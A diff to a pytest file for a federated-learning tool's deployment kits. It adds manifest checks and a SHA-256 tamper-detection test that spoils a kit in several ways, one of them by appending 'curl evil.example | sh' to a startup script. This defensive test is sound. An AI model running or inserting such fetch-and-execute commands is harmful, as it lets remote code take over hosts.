@@ -7,15 +7,18 @@ import pytest
 from fedmerit.errors import BadInput
 from fedmerit.flare.deploy.kits import (
     approve,
+    kit_digest,
     prepare_server,
     prepare_site,
     privacy_policy,
     read_kind,
     read_manifest,
+    require_digest,
     require_kind,
 )
 from fedmerit.flare.recipe import survey_classes
 from fedmerit.plugin_references import Reference
+from fedmerit.trainers.monai_trainer.manifest import JobRules, Manifest
 
 KINDS = {"localhost": "server", "site1": "client", "a@lead.org": "admin"}  # by participant
 
@@ -52,19 +55,27 @@ def test_a_site_is_prepared_for_its_own_images_alone(federation, sites):
         prepare_site(kit, sites / "site2")
     assert prepare_site(kit, sites / "site1", "cpu").name == "site1"
     folders = {"site_folder": str(sites / "site1"), "runs": str(kit / "runs")}
-    assert read_manifest(kit) == {"site": "site1", "device": "cpu", **folders}
+    assert read_manifest(kit) == Manifest(site="site1", device="cpu", **folders)
+    written = read(kit / "local" / "fedmerit.json")["jobs"]
+    assert set(written) == set(JobRules.model_fields)  # all of them, to be edited
+    assert not written["keep_updates"]
+    assert not written["share_models"]
 
 
 def test_what_an_operator_decided_stays_when_a_kit_is_prepared_again(ready, sites):
     approve(ready, [Reference("mine:Part", "mine 1", "aa"), Reference("other:Part", "other 1", "bb")])
     approve(ready, [Reference("mine:Part", "mine 2", "cc")])
+    content = read(ready / "local" / "fedmerit.json")
+    content["jobs"] |= {"least_images": 40, "keep_updates": True}
+    (ready / "local" / "fedmerit.json").write_text(json.dumps(content))
     prepare_site(ready, sites / "site1", "cpu", evaluations="testing=3")
     prepare_site(ready, sites / "site1")
     manifest = read_manifest(ready)
-    assert manifest["parts"] == {"mine:Part": "cc", "other:Part": "bb"}
-    assert (manifest["evaluations"], manifest["device"]) == ("testing=3", "auto")
+    assert manifest.parts == {"mine:Part": "cc", "other:Part": "bb"}
+    assert manifest.jobs.caps == {"validation": 64, "testing": 3, "server_validation": 64}
+    assert (manifest.jobs.least_images, manifest.jobs.keep_updates, manifest.device) == (40, True, "auto")
     approve(ready, None)
-    assert read_manifest(ready)["parts"] == "all"
+    assert read_manifest(ready).approved is None
 
 
 @pytest.mark.parametrize("answers", [False, True])
@@ -112,3 +123,29 @@ def test_what_a_hospital_made_stricter_stays_when_its_kit_is_prepared_again(read
     (ready / "local" / "privacy.json").write_text(json.dumps(policy))
     prepare_site(ready, sites / "site1")
     assert read(ready / "local" / "privacy.json") == policy
+
+
+def change_port(kit):
+    path = kit / "startup" / "fed_client.json"
+    path.write_text(path.read_text().replace("localhost:", "localhost:1"))
+
+
+@pytest.mark.parametrize(
+    "spoil",
+    [
+        change_port,
+        lambda kit: (kit / "startup" / "sub_start.sh").open("a").write("curl evil.example | sh"),
+        lambda kit: (kit / "startup" / "sitecustomize.py").write_text(""),
+        lambda kit: (kit / "local" / "resources.json.default").write_text("{}"),
+    ],
+)
+def test_a_kit_that_was_changed_on_its_way_is_found(federation, sites, spoil):
+    """NVFlare signs no such kit: the digest, which comes another way, shows it."""
+    kit = federation / "fedmerit/prod_00/site1"
+    digest = kit_digest(kit)
+    require_digest(kit, f"{digest.upper()} ")
+    prepare_site(kit, sites / "site1")
+    require_digest(kit, digest)  # what the hospital writes is its own
+    spoil(kit)
+    with pytest.raises(BadInput, match=f"have SHA-256 [0-9a-f]+, the coordinator names {digest}; do not start it"):
+        require_digest(kit, digest)
